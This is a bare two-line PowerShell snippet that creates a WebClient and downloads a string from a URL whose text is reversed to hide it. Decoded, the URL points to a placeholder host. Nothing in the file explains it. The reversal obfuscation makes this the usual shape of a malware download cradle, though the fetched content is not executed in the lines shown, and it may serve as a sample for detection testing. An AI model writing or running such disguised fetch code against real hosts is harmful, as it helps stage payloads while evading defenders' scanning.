$wc = New-Object System.Net.WebClient
$wc.DownloadString(-join 'txt.x/p/elpmaxe.a//:ptth'[-1..-24])
